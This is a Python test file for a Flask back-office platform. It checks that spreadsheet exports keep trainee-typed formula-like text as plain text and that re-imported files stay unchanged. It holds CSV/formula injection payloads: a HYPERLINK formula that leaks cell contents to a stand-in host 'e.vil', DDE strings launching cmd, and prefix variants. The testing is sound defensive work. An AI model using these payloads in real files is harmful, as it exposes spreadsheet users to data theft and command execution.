"""Spreadsheet formula injection (OWASP "CSV injection"), written as the attack: trainees type text
that Excel or LibreOffice would run as a formula (=HYPERLINK leaking the row, DDE, + - @, after a tab
or in full width) into their name, education, employment and licence; every workbook the platform
writes must hold it as text, shown exactly as typed, and importing a written file back must not
change the data.

Every workbook is opened with openpyxl: a cell Excel would evaluate has ``data_type == "f"``."""
from __future__ import annotations

import io
from datetime import date

import pytest
from flask_admin.contrib.sqla import ModelView
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from app.extensions import db
from app.infra.xlsx import safe_row
from models import AuditLog, Education, Employment, Institution, Licence, ReviewRecord, Trainee
from tests.conftest import csrf_token
from tests.admission_scene import EXPORT as ADMISSION_EXPORT
from tests.admission_scene import scene  # noqa: F401  (fixture)
from tests.exams import TEMPLATE, exam, imported_rows, refused_rows, upload  # noqa: F401
from tests.factories import PASSWORD

HYPERLINK = '=HYPERLINK("http://e.vil/?"&A1&C1,"点我")'  # fits a name (50)
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = {
    "name": HYPERLINK,
    "major": DDE,
    "school": "+1+1",
    "unit": "-2+3+cmd|' /C calc'!A0",
    "department": "@SUM(1+1)*cmd|' /C calc'!A0",
    "qualification": "\t=1+1",
    "practice": "＝1+1",  # full-width equals sign
    "reason": "\u3000=1+1",  # after an ideographic space
    "audit": "\n=1+1",  # (a CR would be read back as a line feed: XML folds CR LF)
    "error": "#N/A",
}


def cells(data: bytes):
    """Every cell of every sheet of a workbook (not read-only: the styles are needed)."""
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_no_formula(data: bytes, where: str) -> dict[str, object]:
    """No cell is a formula; returns {text: cell} of the text cells."""
    found = {}
    for cell in cells(data):
        assert cell.data_type != "f", (where, cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            found[cell.value] = cell
    return found


def assert_shown_as_typed(found: dict, payload: str, where: str) -> None:
    assert payload in found, (where, payload)
    cell = found[payload]
    assert cell.data_type == "s" and cell.value == payload  # the text as typed: no apostrophe added
    if payload != PAYLOADS["error"]:
        assert cell.quotePrefix and cell.number_format == "@", (where, payload)  # editing keeps it text


@pytest.fixture
def poisoned(world):
    """The 中原区 trainee typed formulas everywhere a trainee types text."""
    trainee = world.trainees["zy"]
    trainee.name = PAYLOADS["name"]
    education = db.session.scalar(select(Education).where(Education.trainee_id == trainee.id))
    education.major, education.school = PAYLOADS["major"], PAYLOADS["school"]
    employment = db.session.scalar(select(Employment).where(Employment.trainee_id == trainee.id))
    employment.unit_name, employment.department = PAYLOADS["unit"], PAYLOADS["department"]
    licence = db.session.scalar(select(Licence).where(Licence.trainee_id == trainee.id))
    licence.qualification_number, licence.practice_number = PAYLOADS["qualification"], PAYLOADS["practice"]
    world.applications["zy"].unit_name = PAYLOADS["unit"]
    review = db.session.scalar(select(ReviewRecord).where(ReviewRecord.application_id == world.applications["zy"].id))
    review.reason = PAYLOADS["reason"]
    world.institutions["zy"].name = PAYLOADS["unit"]
    db.session.add(AuditLog(actor_name="support", table_name="trainee", record_id=str(trainee.id), action="update",
                            field_name="name", old_value=PAYLOADS["audit"], new_value=PAYLOADS["name"],
                            reason=PAYLOADS["error"]))
    db.session.commit()
    return world


# where each payload must show up, as the trainee typed it
EXPECTED = {
    "trainee": ["name"],
    "education": ["major", "school", "name"],
    "employment": ["unit", "department", "name"],
    "licence": ["qualification", "practice", "name"],
    "application": ["name", "unit"],
    "review_record": ["reason"],
    "institution": ["unit"],
    "audit_log": ["audit", "name", "error"],
}


def test_every_back_office_export_writes_typed_formulas_as_text(app, poisoned, client, auth):
    auth.login("super", PASSWORD)
    admin = app.extensions["admin"][0]
    exported = set()
    for view in admin._views:
        if not isinstance(view, ModelView) or not view.can_export:
            continue
        response = client.get(f"/admin/{view.endpoint}/export/xlsx/")
        if response.status_code == 403:  # a view the superuser does not read
            continue
        assert response.status_code == 200, view.endpoint
        found = assert_no_formula(response.data, view.endpoint)
        for key in EXPECTED.get(view.endpoint, ()):
            assert_shown_as_typed(found, PAYLOADS[key], view.endpoint)
        exported.add(view.endpoint)
    assert set(EXPECTED) <= exported


def test_numbers_stay_numbers_and_ordinary_text_is_untouched(app):
    for write_only in (True, False):
        book = Workbook(write_only=write_only)
        sheet = book.create_sheet("t") if write_only else book.active
        sheet.append(safe_row(sheet, [-5, 3.25, 0, True, date(2025, 5, 1), "内科", "-", "2025-05-01", None, "a\x00b",
                                      "x" * 40000, float("nan")]))
        stream = io.BytesIO()
        book.save(stream)
        row = next(load_workbook(io.BytesIO(stream.getvalue())).worksheets[0].iter_rows())
        assert [c.data_type for c in row[:4]] == ["n", "n", "n", "b"]
        assert [c.value for c in row[:4]] == [-5, 3.25, 0, True]
        assert row[4].is_date
        assert (row[5].value, row[5].data_type, row[5].quotePrefix) == ("内科", "s", False)
        assert (row[6].value, row[6].quotePrefix) == ("-", True)  # a lone minus is text, kept as text
        assert (row[7].value, row[7].quotePrefix) == ("2025-05-01", False)
        assert row[8].value is None
        assert row[9].value == "ab"  # a NUL cannot be written to a workbook: dropped, not a failed export
        assert len(row[10].value) == 32767  # the most a cell holds
        assert row[11].value == "nan" and row[11].data_type == "s"


def test_score_template_holds_the_name_as_text_and_imports_back_unchanged(app, exam, client, auth):  # noqa: F811
    first, second, _third = exam["zz"]
    first.trainee.name = HYPERLINK
    second.trainee.name = "＝1+1"
    db.session.commit()
    auth.login("base_zz", PASSWORD)
    batch = exam["batch"]
    data = client.get(f"{TEMPLATE}?batch={batch.id}").data
    found = assert_no_formula(data, "score template")
    assert_shown_as_typed(found, HYPERLINK, "score template")
    assert_shown_as_typed(found, "＝1+1", "score template")
    # the base fills in the scores of the file it was given and imports it
    book = load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    for row in (2, 3):
        for col in (6, 7, 8):
            sheet.cell(row=row, column=col).value = 80
    stream = io.BytesIO()
    book.save(stream)
    html = upload(client, batch, stream.getvalue()).get_data(as_text=True)
    assert imported_rows(html) == [2, 3] and refused_rows(html) == {}
    assert db.session.get(Trainee, first.trainee.id).name == HYPERLINK
    assert db.session.get(Trainee, second.trainee.id).name == "＝1+1"
    assert db.session.get(type(first), first.id).theory_score == 80


def test_admission_export_holds_names_as_text(app, scene, client, auth):  # noqa: F811
    batch, people = scene
    people["top"].trainee.name = DDE
    db.session.commit()
    auth.login("province", PASSWORD)
    data = client.get(f"{ADMISSION_EXPORT}?batch_id={batch.id}").data
    found = assert_no_formula(data, "admission")
    assert_shown_as_typed(found, DDE, "admission")
    first = next(load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(min_row=2, max_row=2))
    assert first[0].value == 1 and first[0].data_type == "n"  # the ranking stays a number


def test_unit_directory_export_imported_back_changes_nothing(app, poisoned, client, auth):
    """The directory's rows exported, pasted under the import template's header and imported again:
    the ordinary units are recognised as already there, the formula-like name is refused with a
    Chinese message (the import takes plain text only), and nothing is added or renamed."""
    auth.login("super", PASSWORD)
    template = client.get("/admin/institution-import/template/")
    assert template.status_code == 200
    assert_no_formula(template.data, "unit template")
    exported = client.get("/admin/institution/export/xlsx/").data
    found = assert_no_formula(exported, "institutions")
    assert_shown_as_typed(found, PAYLOADS["unit"], "institutions")
    rows = list(load_workbook(io.BytesIO(exported)).worksheets[0].iter_rows(min_row=2, values_only=True))
    assert len(rows) == 3
    book = load_workbook(io.BytesIO(template.data))
    sheet = book.worksheets[0]
    for row in rows:  # name, county, level, kind: the export's columns are the template's
        sheet.append(safe_row(sheet, list(row)))
    stream = io.BytesIO()
    book.save(stream)
    before = sorted((i.name, i.region_id, i.level, i.kind) for i in db.session.scalars(select(Institution)))
    page = "/admin/institution-import/"
    response = client.post(f"{page}upload/", data={"file": (io.BytesIO(stream.getvalue()), "units.xlsx"),
                                                   "csrf_token": csrf_token(client, page)},
                           content_type="multipart/form-data")
    html = response.get_data(as_text=True)
    assert response.status_code in (200, 400)
    assert "是公式或以 = + - @ 开头，请改为填写纯文本。" in html
    assert "新增 0 个；更新 0 个；未变 2 个；拒绝 1 行。" in html
    after = sorted((i.name, i.region_id, i.level, i.kind) for i in db.session.scalars(select(Institution)))
    assert after == before
